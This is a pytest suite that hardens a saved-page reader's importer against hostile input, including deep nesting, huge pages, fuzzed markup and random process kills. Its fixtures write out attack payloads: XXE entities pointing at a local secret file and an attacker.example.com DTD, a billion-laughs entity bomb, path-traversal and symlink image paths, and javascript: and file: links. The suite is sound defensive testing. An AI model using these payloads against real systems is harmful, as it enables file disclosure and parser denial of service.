"""More hostile saved pages: deep nesting, huge pages, entity tricks in MHTML and feeds, links and symlinks
leading out of the import folder, and imports killed at random moments."""

from __future__ import annotations

import contextlib
import os
import random
import signal
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from reader.ingest.extract import extract_article
from reader.ingest.html import parse_html
from reader.ingest.pipeline import find_pages, import_sources
from reader.ingest.site import SiteContext
from reader.store.reader import ArticleStore
from tests.fixtures.dede_page import HOST, article_page, png, write_image, write_page
from tests.fixtures.sitegen import generate_site

SECRET_TEXT = "TOP-SECRET-OUTSIDE-THE-IMPORT"
BILLION_LAUGHS = (
    '<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
    '<!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
)


def extract_rel(root: Path, rel: str) -> object:
    page = root / HOST / rel
    return extract_article([page], SiteContext.for_page(page, root))


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the import source holding files the import must never read."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text(SECRET_TEXT, encoding="utf-8")
    (folder / "secret.png").write_bytes(png(9, 7, shade=13))
    (folder / "page.html").write_text(
        article_page(title="外面的文章", body=f"<p>{SECRET_TEXT}</p>"), encoding="utf-8"
    )
    return folder


@pytest.fixture
def source(tmp_path: Path) -> Path:
    folder = tmp_path / "site"
    folder.mkdir()
    return folder


@pytest.fixture
def opened_paths() -> Iterator[list[str]]:
    """Every path Python opens or lists while the fixture is active (an audit hook: it sees every
    open(), os.listdir and os.scandir, whoever calls them)."""
    seen: list[str] = []
    active = [True]

    def hook(event: str, args: tuple[object, ...]) -> None:
        if active[0] and event in ("open", "os.listdir", "os.scandir") and args and args[0] is not None:
            first = args[0]
            if isinstance(first, (str, bytes, os.PathLike)):
                seen.append(os.fsdecode(first))

    sys.addaudithook(hook)  # hooks cannot be removed; this one goes quiet after the test
    try:
        yield seen
    finally:
        active[0] = False


def reached(opened: list[str], folder: Path) -> list[str]:
    """The opened paths that, with links and `..` resolved, lie in `folder`."""
    top = os.path.realpath(folder)
    return [p for p in opened if os.path.realpath(p) == top or os.path.realpath(p).startswith(top + os.sep)]


def _store_texts(path: Path) -> str:
    with ArticleStore.open(path) as store:
        parts = []
        for row in store.iter_article_rows():
            article = store.article(row.uid)
            assert article is not None
            parts.extend([article.title, *article.texts()])
        return "\n".join(parts)


def _store_image_bytes(path: Path) -> list[bytes]:
    conn = sqlite3.connect(f"{path.resolve().as_uri()}?mode=ro", uri=True)
    try:
        return [bytes(row[0]) for row in conn.execute("SELECT data FROM images")]
    finally:
        conn.close()


# -- pages that strain the parser -------------------------------------------------------------------


def test_a_page_nested_100000_levels_deep_is_reported_quickly_not_crashed(tmp_path: Path) -> None:
    body = "<div>" * 100_000 + "<p>最深处的一段话。</p>" + "</div>" * 100_000
    write_page(tmp_path, "a/deep.html", article_page(body=body))
    started = time.monotonic()
    result = extract_rel(tmp_path, "a/deep.html")
    assert time.monotonic() - started < 10
    assert result.kind == "failed"  # type: ignore[attr-defined]
    assert "drop part of this page" in result.reason  # type: ignore[attr-defined]


def test_many_unclosed_doctype_declarations_are_parsed_in_linear_time() -> None:
    # Found by this suite: the internal-subset pattern was tried at every "<!DOCTYPE", each scan running
    # to the end of the page (20,000 of them took 43 s; a 10 MB page would have hung the import).
    text = "<html><body><p>正文。</p>" + "<!DOCTYPE x[" * 200_000 + "</body></html>"
    started = time.monotonic()
    parsed = parse_html(text)
    assert time.monotonic() - started < 5
    assert "正文" in "".join(parsed.root.itertext())


def test_a_10_mb_page_of_ordinary_paragraphs_imports_whole(tmp_path: Path) -> None:
    paragraph = "\u3000\u3000" + "山间的溪水日夜流淌，两岸的茶园一层一层铺到云里。" * 4
    count = 10 * 1024 * 1024 // len(f"<p>{paragraph}</p>\n".encode())
    body = "\n".join(f"<p>{paragraph}{i}</p>" for i in range(count))
    page = write_page(tmp_path, "a/huge.html", article_page(body=body))
    assert page.stat().st_size >= 10 * 1024 * 1024
    result = extract_rel(tmp_path, "a/huge.html")
    assert result.kind == "article", result.reason  # type: ignore[attr-defined]
    texts = result.article.texts()  # type: ignore[attr-defined]
    assert len(texts) == count
    assert texts[-1].endswith(str(count - 1))


_FRAGMENTS = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<div>",
        "</div>",
        "<table><tr><td>",
        "</td></tr></table>",
        "<img src='/u/x.png'>",
        "<img src='../../../../etc/passwd'>",
        "<a href='javascript:alert(1)'>",
        "</a>",
        "<script>",
        "</script>",
        "<!DOCTYPE x[",
        "]>",
        "<!ENTITY e SYSTEM 'file:///etc/passwd'>",
        "&e;",
        "&#0;",
        "&#xD800;",
        "\x00",
        "<![CDATA[",
        "]]>",
        "<!--",
        "-->",
        "<?xml version='1.0'?>",
        "<br>",
        "<h2>",
        "</h2>",
        "<ul><li>",
        "\ufffd",
        "　　",
        "正文",
        "图/ 某人",
        "2023年第4期",
        "<meta charset='gbk'>",
        "<p class='viewbox'>",
    ]
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(_FRAGMENTS, st.text(max_size=20)), max_size=60))
@example(["<!DOCTYPE x["] * 2000)  # found here: quadratic time in the DOCTYPE pattern
def test_extraction_of_any_markup_returns_a_result_never_an_error(tmp_path: Path, pieces: list[str]) -> None:
    body = "".join(pieces)
    write_page(tmp_path, "a/fuzz.html", article_page(body=body))
    started = time.monotonic()
    result = extract_rel(tmp_path, "a/fuzz.html")
    assert time.monotonic() - started < 5
    assert result.kind in ("article", "skipped", "failed")  # type: ignore[attr-defined]
    if result.kind == "failed":  # type: ignore[attr-defined]
        assert result.reason  # type: ignore[attr-defined]


# -- entity declarations: in MHTML, and in feeds saved as pages -----------------------------------


def _mhtml(html: str) -> bytes:
    boundary = "----MultipartBoundary--hostile"
    return (
        "From: <Saved by Blink>\r\n"
        "Snapshot-Content-Location: http://www.lanxi.example.cn/a/mht/1.html\r\n"
        "Subject: hostile\r\n"
        "MIME-Version: 1.0\r\n"
        f'Content-Type: multipart/related; type="text/html"; boundary="{boundary}"\r\n\r\n'
        f"--{boundary}\r\n"
        "Content-Type: text/html; charset=utf-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n"
        "Content-Location: http://www.lanxi.example.cn/a/mht/1.html\r\n\r\n"
        f"{html}\r\n"
        f"--{boundary}--\r\n"
    ).encode()


def test_mhtml_with_entity_declarations_expands_and_reads_nothing(
    tmp_path: Path, source: Path, outside: Path, opened_paths: list[str]
) -> None:
    secret = outside / "secret.txt"
    doctype = (
        f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "file://{secret}">'
        f'<!ENTITY remote SYSTEM "http://attacker.example.com/x.dtd">{BILLION_LAUGHS}]>'
    )
    body = (
        "<p>实体一：&xxe; 实体二：&lol9; 实体三：&remote;</p>"
        f'<p align="center"><img src="file://{outside / "secret.png"}"></p><p>正文照常。</p>'
    )
    html = article_page(body=body).replace("<!DOCTYPE html>", doctype)
    mht = source / "saved.mhtml"
    mht.write_bytes(_mhtml(html))
    summary = import_sources([source], tmp_path / "m.magstore", workers=1)
    assert summary.added == 1, summary.describe()
    text = _store_texts(tmp_path / "m.magstore")
    assert "正文照常" in text
    assert SECRET_TEXT not in text
    assert "lollol" not in text
    assert _store_image_bytes(tmp_path / "m.magstore") == []
    assert reached(opened_paths, outside) == []


def test_a_feed_with_billion_laughs_and_external_entities_saved_as_a_page(
    tmp_path: Path, source: Path, outside: Path, opened_paths: list[str]
) -> None:
    secret = outside / "secret.txt"
    feed = (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">'
        '<!ENTITY % dtd SYSTEM "http://attacker.example.com/evil.dtd"> %dtd;'
        f"{BILLION_LAUGHS}]>\n"
        '<rss version="2.0"><channel><title>兰溪 &lol9;</title><link>http://www.lanxi.example.cn/</link>'
        "<item><title>溪畔的春茶 &xxe;</title><link>http://www.lanxi.example.cn/a/1.html</link>"
        "<description>&lol9; &xxe;</description></item></channel></rss>\n"
    )
    atom = feed.replace("<rss", "<feed").replace("</rss>", "</feed>").replace("channel>", "entry>")
    (source / HOST / "data" / "rss").mkdir(parents=True)
    (source / HOST / "data" / "rss" / "1.html").write_text(feed, encoding="utf-8")
    (source / HOST / "data" / "rss" / "atom.html").write_text(atom, encoding="utf-8")
    write_page(source, "a/1.html", article_page(body="<p>一篇普通的文章。</p>"))
    summary = import_sources([source], tmp_path / "m.magstore", workers=1)
    # Each feed is imported or reported; neither expands an entity nor reads what one names.
    assert summary.added + len(summary.failed) + sum(summary.skipped.values()) == 3, summary.describe()
    text = _store_texts(tmp_path / "m.magstore")
    assert "一篇普通的文章" in text
    assert SECRET_TEXT not in text
    assert "lollol" not in text
    assert reached(opened_paths, outside) == []


# -- references leading out of the import folder ----------------------------------------------------

HOSTILE_IMAGE_SOURCES = (
    "../../../outside/secret.png",
    "/../../outside/secret.png",
    "/u/..%2F..%2F..%2Foutside%2Fsecret.png",
    "/u/%252e%252e%252f%252e%252e%252f%252e%252e%252foutside%252fsecret.png",
    "{outside}/secret.png",
    "file://{outside}/secret.png",
    "FILE:{outside}/secret.png",
    "\\\\server\\share\\secret.png",
    "..\\..\\..\\outside\\secret.png",
    "/u/link.png",
    "/u/linked-folder/secret.png",
    "pics_files/photo.png",
)


def test_images_outside_the_import_folder_are_never_read(
    tmp_path: Path, source: Path, outside: Path, opened_paths: list[str]
) -> None:
    (source / HOST / "u").mkdir(parents=True)
    os.symlink(outside / "secret.png", source / HOST / "u" / "link.png")
    os.symlink(outside, source / HOST / "u" / "linked-folder")
    # A browser's parts folder whose "renamed copy" of a missing picture is a link leading out.
    parts = source / HOST / "a" / "pics_files"
    parts.mkdir(parents=True)
    os.symlink(outside / "secret.png", parts / "photo(1).png")
    figures = "".join(
        f'<p align="center"><img src="{src.format(outside=outside)}"></p>' for src in HOSTILE_IMAGE_SOURCES
    )
    write_page(source, "a/pics.html", article_page(body=f"<p>正文。</p>{figures}"))
    write_image(source, "u/inside.png", png(4, 4, shade=200))
    write_page(source, "a/ok.html", article_page(body='<p>好图。</p><p><img src="/u/inside.png"></p>'))
    summary = import_sources([source], tmp_path / "m.magstore", workers=1)
    assert summary.added == 2, summary.describe()
    assert summary.images_missing == len(HOSTILE_IMAGE_SOURCES)
    assert _store_image_bytes(tmp_path / "m.magstore") == [png(4, 4, shade=200)]
    assert reached(opened_paths, outside) == []


def test_a_page_that_is_a_symlink_leading_out_is_not_imported(
    tmp_path: Path, source: Path, outside: Path, opened_paths: list[str]
) -> None:
    write_page(source, "a/1.html", article_page(body="<p>里面的文章。</p>"))
    os.symlink(outside / "page.html", source / HOST / "a" / "2.html")
    os.symlink(outside, source / HOST / "a" / "elsewhere")
    assert [g.pages[0].name for g in find_pages([source])] == ["1.html"]
    summary = import_sources([source], tmp_path / "m.magstore", workers=1)
    assert summary.added == 1
    assert SECRET_TEXT not in _store_texts(tmp_path / "m.magstore")
    assert reached(opened_paths, outside) == []


def test_script_and_file_links_in_a_whole_import_stay_unsaved_plain_links(
    tmp_path: Path, source: Path
) -> None:
    related = (
        ("javascript:fetch('http://attacker.example.com')", "脚本"),
        ("file:///etc/passwd", "本地文件"),
        ("\\\\server\\share\\x.html", "共享"),
        ("data:text/html,<script>alert(1)</script>", "数据"),
    )
    write_page(source, "a/1.html", article_page(body="<p>正文。</p>", related=related,
                                                prev=("vbscript:msgbox(1)", "旧脚本")))  # fmt: skip
    import_sources([source], tmp_path / "m.magstore", workers=1)
    with ArticleStore.open(tmp_path / "m.magstore") as store:
        (row,) = store.iter_article_rows()
        article = store.article(row.uid)
    assert article is not None
    links = [link for link in (article.prev, *article.related) if link is not None]
    assert links, "the page's links were not kept"
    assert len(links) == 5 and not any(link.saved for link in links), links
    # Script, file and data links name no article; a UNC path reads as a relative name on the site (a
    # uid no article has), which the window shows as plain text since it is neither saved nor http(s).
    assert [link.uid for link in links if "\\" not in link.href] == [None] * 4, links


# -- imports killed at random moments ---------------------------------------------------------------


def _kill_rounds(default: int) -> int:
    return int(os.environ.get("READER_KILL_ROUNDS", default))


def _check_store_after_kill(store: Path) -> int:
    """The store opens read-only, passes SQLite's integrity check and holds only whole articles."""
    with ArticleStore.open(store) as opened:
        conn = opened._conn
        assert conn.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        assert conn.execute("PRAGMA foreign_key_check").fetchall() == []
        rows = list(opened.iter_article_rows())
        for row in rows:
            article = opened.article(row.uid)
            assert article is not None and article.blocks, row.uid
            for figure in article.figures():
                if figure.image is not None:
                    assert opened.image(figure.image.sha256) is not None, (row.uid, figure.image)
        return len(rows)


def _kill_loop(tmp_path: Path, rounds: int, issues: int, seed: int) -> list[tuple[float, int]]:
    site = tmp_path / "site"
    truth = generate_site(site, issues=issues, per_issue=10, seed=seed)
    store = tmp_path / "killed.magstore"
    rng = random.Random(seed)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(Path(__file__).parents[2] / "src"), *sys.path])}
    outcomes: list[tuple[float, int]] = []
    for round_ in range(rounds):
        if round_ % 3 == 0 and store.exists():
            for suffix in ("", "-journal"):
                Path(f"{store}{suffix}").unlink(missing_ok=True)  # sometimes kill the store's creation
        process = subprocess.Popen(
            [sys.executable, "-m", "reader", "import", "-j", "2", "-q", "--store", str(store), str(site)],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,  # the kill takes the pool's worker processes too
        )
        delay = rng.uniform(0.05, 2.0)
        with contextlib.suppress(subprocess.TimeoutExpired):
            process.wait(timeout=delay)
        if _group_alive(process.pid):  # the import, or a worker it left behind
            os.killpg(process.pid, signal.SIGKILL)
        process.wait()
        count = _check_store_after_kill(store) if store.exists() else -1
        assert count <= len(truth)
        outcomes.append((round(delay, 2), count))
    return outcomes


def _group_alive(pgid: int) -> bool:
    try:
        os.killpg(pgid, 0)
    except ProcessLookupError:
        return False
    return True


def test_an_import_killed_at_random_moments_leaves_a_whole_store(tmp_path: Path) -> None:
    outcomes = _kill_loop(tmp_path, _kill_rounds(4), issues=3, seed=11)
    assert len(outcomes) == _kill_rounds(4)


@pytest.mark.slow
def test_an_import_killed_many_times_leaves_a_whole_store(
    tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    if "slow" not in (request.config.getoption("markexpr") or "") and "READER_KILL_ROUNDS" not in os.environ:
        pytest.skip("a 30-round kill loop: run with -m slow (READER_KILL_ROUNDS sets the rounds)")
    # A bigger site: its import spans several timed commits, so kills land between and inside batches.
    outcomes = _kill_loop(tmp_path, _kill_rounds(30), issues=30, seed=23)
    assert any(count > 0 for _, count in outcomes), outcomes
